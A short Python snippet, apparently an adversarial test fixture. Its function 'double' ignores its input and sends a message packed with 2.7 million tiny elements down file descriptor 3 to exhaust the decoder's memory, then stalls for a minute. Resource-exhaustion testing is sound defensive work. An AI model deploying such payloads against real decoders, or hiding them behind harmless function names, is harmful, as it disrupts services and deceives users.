# Two million tiny scalars, each an object for whoever decodes them.
import os
import struct
import time


def double(values):
    count = 2_700_000
    answer = b"l" + struct.pack("<I", count) + b"g\x01\x01" * count
    header = b"t" + struct.pack("<I", 3) + b"s" + struct.pack("<I", 5) + b"value" + answer + b"l" + bytes(4)
    data = struct.pack("<4sIQ", b"ATN1", len(header), 0) + header
    while data:
        data = data[os.write(3, data):]
    time.sleep(60)
